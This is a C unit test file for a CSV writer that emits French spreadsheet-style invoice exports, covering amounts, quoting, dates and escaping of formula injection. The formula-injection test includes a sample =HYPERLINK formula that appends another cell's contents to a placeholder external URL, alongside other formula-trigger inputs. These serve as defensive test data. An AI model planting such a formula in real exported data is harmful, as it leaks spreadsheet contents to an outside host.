/* test-csv.c: the CSV writer produces what French spreadsheets expect. */
/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include <string.h>

#include "chorus-csv.h"

static char *
finish (ChorusCsvWriter *writer)
{
  g_autoptr(GBytes) bytes = chorus_csv_writer_free_to_bytes (writer);
  gsize size;
  const char *data = g_bytes_get_data (bytes, &size);

  return g_strndup (data, size);
}

static void
test_bom_and_rows (void)
{
  ChorusCsvWriter *writer = chorus_csv_writer_new ();
  g_autofree char *text = NULL;

  chorus_csv_writer_add_text (writer, "Numéro facture");
  chorus_csv_writer_add_text (writer, "Montant TTC");
  chorus_csv_writer_end_row (writer);
  chorus_csv_writer_add_text (writer, "F-2026-001");
  chorus_csv_writer_add_amount (writer, 123456);
  chorus_csv_writer_end_row (writer);
  text = finish (writer);

  g_assert_cmpstr (text, ==, "\xEF\xBB\xBFNuméro facture;Montant TTC\r\nF-2026-001;1234,56\r\n");
}

static void
test_amounts (void)
{
  struct { gint64 cents; const char *expected; } cases[] = {
    { 0, "0,00" }, { 5, "0,05" }, { -5, "-0,05" }, { 100, "1,00" },
    { -123456789, "-1234567,89" }, { G_MININT64, "-92233720368547758,08" },
    { G_MAXINT64, "92233720368547758,07" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text = chorus_csv_format_amount (cases[i].cents);
      g_assert_cmpstr (text, ==, cases[i].expected);
    }
}

static void
test_quoting (void)
{
  ChorusCsvWriter *writer = chorus_csv_writer_new ();
  g_autofree char *text = NULL;

  chorus_csv_writer_add_text (writer, "Dupont; fils");
  chorus_csv_writer_add_text (writer, "dit \"le grand\"");
  chorus_csv_writer_add_text (writer, "deux\nlignes");
  chorus_csv_writer_add_text (writer, NULL);
  chorus_csv_writer_add_text (writer, "simple");
  chorus_csv_writer_end_row (writer);
  text = finish (writer);

  g_assert_cmpstr (text + 3, ==, "\"Dupont; fils\";\"dit \"\"le grand\"\"\";\"deux\nlignes\";;simple\r\n");
}

static void
test_dates_and_integers (void)
{
  ChorusCsvWriter *writer = chorus_csv_writer_new ();
  g_autofree char *text = NULL;

  chorus_csv_writer_add_date (writer, "2026-11-23");
  chorus_csv_writer_add_date (writer, "2026-01-05T10:22:01.000+01:00");
  chorus_csv_writer_add_date (writer, NULL);
  chorus_csv_writer_add_date (writer, "garbage");
  chorus_csv_writer_add_integer (writer, -12);
  chorus_csv_writer_end_row (writer);
  text = finish (writer);

  g_assert_cmpstr (text + 3, ==, "23/11/2026;05/01/2026;;garbage;-12\r\n");
}

/* M4: a supplier named =HYPERLINK(…) must not become a live formula in the accountant's spreadsheet,
 * while negative amounts (credit notes) stay numbers. */
static void
test_formula_injection (void)
{
  ChorusCsvWriter *writer = chorus_csv_writer_new ();
  g_autofree char *text = NULL;

  chorus_csv_writer_add_text (writer, "=1+1");
  chorus_csv_writer_add_text (writer, "+33 1 23 45 67 89");
  chorus_csv_writer_add_text (writer, "-2");
  chorus_csv_writer_add_text (writer, "@SUM(A1)");
  chorus_csv_writer_add_text (writer, "\t=1");
  chorus_csv_writer_add_text (writer, "\r=1");
  chorus_csv_writer_add_text (writer, "=HYPERLINK(\"https://x.example/?\"&A2;\"Détails\")");
  chorus_csv_writer_end_row (writer);
  /* Only the first character matters; amounts and integers are ours and stay numeric. */
  chorus_csv_writer_add_text (writer, "A=B");
  chorus_csv_writer_add_text (writer, " =1");
  chorus_csv_writer_add_text (writer, "");
  chorus_csv_writer_add_amount (writer, -150);
  chorus_csv_writer_add_integer (writer, -12);
  chorus_csv_writer_add_date (writer, "=1+1");
  chorus_csv_writer_end_row (writer);
  text = finish (writer);

  g_assert_cmpstr (text + 3, ==,
                   "'=1+1;'+33 1 23 45 67 89;'-2;'@SUM(A1);'\t=1;\"'\r=1\";"
                   "\"'=HYPERLINK(\"\"https://x.example/?\"\"&A2;\"\"Détails\"\")\"\r\n"
                   "A=B; =1;;-1,50;-12;'=1+1\r\n");
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv/bom-and-rows", test_bom_and_rows);
  g_test_add_func ("/csv/amounts", test_amounts);
  g_test_add_func ("/csv/quoting", test_quoting);
  g_test_add_func ("/csv/dates-and-integers", test_dates_and_integers);
  g_test_add_func ("/csv/formula-injection", test_formula_injection);
  return g_test_run ();
}
